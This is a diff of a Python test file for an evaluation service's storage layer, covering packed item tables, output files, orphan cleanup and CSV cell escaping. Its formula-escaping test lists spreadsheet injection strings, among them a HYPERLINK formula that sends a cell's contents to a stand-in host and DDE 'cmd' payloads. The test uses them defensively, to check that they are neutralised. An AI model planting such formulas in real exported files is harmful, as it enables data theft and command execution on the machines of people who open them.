@@ -2,7 +2,6 @@
 
 import csv
 import io
-import json
 import math
 import os
 import zlib
@@ -14,20 +13,11 @@ import msgpack
 import pytest
 
 from evalsvc.errors import ItemsLost
+from evalsvc.files import outputs
 from evalsvc.files.atomic import FileLost
 from evalsvc.files.csv_cells import csv_text, plain_cell
 from evalsvc.files.items import LARGE, ItemTable, keep_items, pack_items, read_items, sweep_items
-from evalsvc.files.outputs import LARGE as LARGE_OUTPUT
-from evalsvc.files.outputs import (
-    OutputFile,
-    drop_output,
-    drop_outputs,
-    from_column,
-    keep_output,
-    read_output,
-    sweep_outputs,
-    to_column,
-)
+from evalsvc.files.outputs import OutputFile, from_column, keep_output, read_output, to_column
 
 ANSWERS = [
     {"benchmark": "arc", "index": 0, "scores": [[-1.5, 1, -1.25, 0], [-0.1, 0, -3e-300, 1]], "acc": 1, "acc_norm": 1.0},
@@ -43,6 +33,7 @@ MESSY: list[list[dict[str, Any]]] = [
     ANSWERS,
     [{str(key): key} for key in range(300)],
     [{"index": index, "value": 5e-324 * index, "big": -(2**63) + index} for index in range(1000)],
+    [{"x": math.nan}, {"x": math.inf}, {"x": -math.inf}],
 ]
 
 
@@ -51,15 +42,10 @@ def test_what_is_read_is_what_was_kept(items: list[dict[str, Any]]) -> None:
     """To the order of keys, and to the difference between 1, 1.0 and true, which == does not see."""
     table = ItemTable.from_bytes(pack_items(items))
     assert len(table) == len(items)
-    assert json.dumps(list(table.rows())) == json.dumps(items)
-    assert json.dumps(list(ItemTable.from_bytes(table.to_bytes()).rows())) == json.dumps(items)
+    for found in (table, ItemTable.from_bytes(table.to_bytes())):
+        assert repr(list(found.rows())) == repr(items)
     for name in table.names:
-        assert table.column(name) == [item.get(name) for item in items]
-
-
-def test_floats_that_json_has_no_words_for() -> None:
-    items = [{"x": math.nan}, {"x": math.inf}, {"x": -math.inf}]
-    assert repr(list(ItemTable.from_bytes(pack_items(items)).rows())) == repr(items)
+        assert repr(table.column(name)) == repr([item.get(name) for item in items])
 
 
 def test_one_column_is_read_without_the_others() -> None:
@@ -75,23 +61,19 @@ def test_one_column_is_read_without_the_others() -> None:
 
 def test_some_keys_and_some_items() -> None:
     table = ItemTable.from_bytes(pack_items(ANSWERS))
-    assert list(table.rows(["acc", "index"])) == [
-        {key: item[key] for key in item if key in ("acc", "index")} for item in ANSWERS
-    ]
+    expected = [{key: item[key] for key in item if key in ("acc", "index")} for item in ANSWERS]
+    assert list(table.rows(["acc", "index"])) == expected
     assert list(table.where("benchmark", "wsc").rows()) == ANSWERS[2:]
     assert table.column("nothing") == [None] * 4
 
 
-@pytest.mark.parametrize("content", [b"\xc0", msgpack.packb({"format": "evalsvc-items/9"})])
-def test_what_is_no_table_is_refused(content: bytes) -> None:
-    with pytest.raises(ValueError, match="not results per item in the form evalsvc-items/1"):
-        ItemTable.from_bytes(content)
-
-
-@pytest.mark.parametrize("item", [{"x": object()}, {"x": 2**64}])
-def test_what_cannot_be_kept_is_refused(item: dict[str, Any]) -> None:
-    with pytest.raises((TypeError, OverflowError)):
-        pack_items([item])
+def test_what_is_no_table_or_cannot_be_kept_is_refused() -> None:
+    for content in (b"\xc0", msgpack.packb({"format": "evalsvc-items/9"})):
+        with pytest.raises(ValueError, match="not results per item in the form evalsvc-items/1"):
+            ItemTable.from_bytes(content)
+    for value in (object(), 2**64):
+        with pytest.raises((TypeError, OverflowError)):
+            pack_items([{"x": value}])
 
 
 @pytest.fixture
@@ -116,27 +98,22 @@ def test_small_in_the_row_and_large_in_a_file(tmp_path: Path, large: bytes) -> N
     assert list(read_items(tmp_path, small, "it").rows()) == ANSWERS
 
 
-@pytest.mark.parametrize(
-    ("content", "words"), [(None, "cannot be read: no such file"), (b"", "is damaged"), (b"other", "is damaged")]
-)
-def test_what_is_gone_or_damaged_is_said(tmp_path: Path, large: bytes, content: bytes | None, words: str) -> None:
+def test_what_is_gone_or_damaged_is_said(tmp_path: Path, large: bytes) -> None:
     kept = keep_items(tmp_path, large)
     (path,) = files(tmp_path)
-    if content is None:
-        path.unlink()
-    else:
-        path.write_bytes(content)
-    with pytest.raises(
-        ItemsLost, match=f"task 'text' of evaluation 3 are lost: .*{words}.*; put the file back .* or ev"
-    ):
-        read_items(tmp_path, kept, "task 'text' of evaluation 3")
+    path.write_bytes(b"other")
+    for words in ("is damaged", "cannot be read: no such file"):
+        lost = f"task 'text' of evaluation 3 are lost: .*{words}.*; put the file back .* or ev"
+        with pytest.raises(ItemsLost, match=lost):
+            read_items(tmp_path, kept, "task 'text' of evaluation 3")
+        path.unlink(missing_ok=True)
 
 
-def test_what_no_row_names_is_swept(tmp_path: Path, large: bytes) -> None:
-    kept = keep_items(tmp_path, large)
+def test_what_no_row_names_is_swept_but_not_by_a_database_that_names_nothing(tmp_path: Path, large: bytes) -> None:
+    """A new database beside an old data folder once would have cost all that the old one names."""
+    kept, _orphan = keep_items(tmp_path, large), keep_items(tmp_path, large + b"\xc0")
     assert isinstance(kept, str)
-    orphan = keep_items(tmp_path, large + b"\xc0")
-    assert isinstance(orphan, str)
+    assert sweep_items(tmp_path, set()) == 0
     (tmp_path / kept[:2] / "cut-off.partial").write_bytes(b"")
     (tmp_path / kept[:2] / "notes.txt").write_text("not ours")
     (tmp_path / "notes").mkdir()
@@ -145,27 +122,14 @@ def test_what_no_row_names_is_swept(tmp_path: Path, large: bytes) -> None:
     assert {path.name for path in files(tmp_path)} == {kept, "notes.txt", "mine"}
 
 
-def test_a_database_that_names_nothing_sweeps_nothing(tmp_path: Path, large: bytes) -> None:
-    """A new database beside an old data folder once would have cost all that the old one names."""
-    keep_items(tmp_path, large)
-    assert sweep_items(tmp_path, set()) == 0
-    assert len(files(tmp_path)) == 1
+FORMULAS = ["=1+1", '=HYPERLINK("http://x/?"&A1)', "+cmd|' /C'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1"]
+PLAIN = [-0.5, -3, None, True, "-Infinity", "-0.5", "+1e-3", "NaN", "a=b", "", " cheese", "coco/fid"]
 
 
-@pytest.mark.parametrize(
-    "text",
-    ["=1+1", '=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1"],
-)
-def test_what_would_be_a_formula_is_text(text: str) -> None:
-    assert plain_cell(text) == f"'{text}"
-
-
-@pytest.mark.parametrize(
-    "value", [-0.5, -3, None, True, "-Infinity", "-0.5", "+1e-3", "NaN", "a=b", "", " cheese", "coco/fid"]
-)
-def test_numbers_and_other_text_stay(value: object) -> None:
-    """pandas reads them as they are."""
-    assert plain_cell(value) is value
+def test_what_would_be_a_formula_is_text_and_numbers_stay() -> None:
+    """pandas reads numbers as they are."""
+    assert [plain_cell(text) for text in FORMULAS] == [f"'{text}" for text in FORMULAS]
+    assert all(plain_cell(value) is value for value in PLAIN)
 
 
 @pytest.mark.parametrize("end", ["\r", "\n", "\r\n"])
@@ -198,16 +162,14 @@ def test_a_large_output_is_a_file_of_its_attempt(tmp_path: Path) -> None:
     assert in_folder(tmp_path) == ["3/7-2", "3/7-3"]
 
 
-@pytest.mark.parametrize(
-    "value", [None, {}, {"sum": 1.5}, dict.fromkeys("abcdefghijklmnopq"), {"bytes": bytes(60_000)}]
-)
-def test_a_small_one_stays_in_its_row(tmp_path: Path, value: object) -> None:
+def test_a_small_one_stays_in_its_row(tmp_path: Path) -> None:
     """Its bytes are those that the task packed, and none of them is taken for the name of a file."""
-    output: bytes = msgpack.packb(value)
-    assert len(output) < LARGE_OUTPUT
-    assert keep_output(tmp_path, output, task=3, shard=7, attempt=2) is output
-    assert to_column(output) is output
-    assert from_column(output) is output
+    for value in (None, {}, {"sum": 1.5}, dict.fromkeys("abcdefghijklmnopq"), {"bytes": bytes(60_000)}):
+        output: bytes = msgpack.packb(value)
+        assert len(output) < outputs.LARGE
+        assert keep_output(tmp_path, output, task=3, shard=7, attempt=2) is output
+        assert to_column(output) is output
+        assert from_column(output) is output
     assert in_folder(tmp_path) == []
 
 
@@ -233,12 +195,10 @@ def test_what_is_gone_or_changed_is_lost(tmp_path: Path, put: Callable[[Path], o
         read_output(tmp_path, file)
 
 
-@pytest.mark.parametrize(
-    "content", [b"\xc7", b"\xd4\x01\x01", msgpack.packb(msgpack.ExtType(1, msgpack.packb([1, 2])))]
-)
-def test_a_row_that_names_no_file_is_refused(content: bytes) -> None:
-    with pytest.raises(ValueError, match="names no file of an output"):
-        from_column(content)
+def test_a_row_that_names_no_file_is_refused() -> None:
+    for content in (b"\xc7", b"\xd4\x01\x01", msgpack.packb(msgpack.ExtType(1, msgpack.packb([1, 2])))):
+        with pytest.raises(ValueError, match="names no file of an output"):
+            from_column(content)
 
 
 def test_what_nothing_names_is_removed(tmp_path: Path) -> None:
@@ -247,12 +207,12 @@ def test_what_nothing_names_is_removed(tmp_path: Path) -> None:
         (tmp_path / orphan).parent.mkdir(exist_ok=True)
         (tmp_path / orphan).touch()
     (tmp_path / "3" / "notes.txt").touch()
-    assert sweep_outputs(tmp_path, {kept, other}) == 3
+    assert outputs.sweep_outputs(tmp_path, {kept, other}) == 3
     assert in_folder(tmp_path) == ["3/7-2", "3/8-2", "3/notes.txt"]
-    drop_output(tmp_path, 3, 7, 2)
-    drop_output(tmp_path, 3, 7, 99)
+    outputs.drop_output(tmp_path, 3, 7, 2)
+    outputs.drop_output(tmp_path, 3, 7, 99)
     assert in_folder(tmp_path) == ["3/8-2", "3/notes.txt"]
-    drop_outputs(tmp_path, 3)
-    drop_outputs(tmp_path, 5)
+    outputs.drop_outputs(tmp_path, 3)
+    outputs.drop_outputs(tmp_path, 5)
     assert list(tmp_path.iterdir()) == []
-    assert sweep_outputs(tmp_path / "nowhere", ()) == 0
+    assert outputs.sweep_outputs(tmp_path / "nowhere", ()) == 0
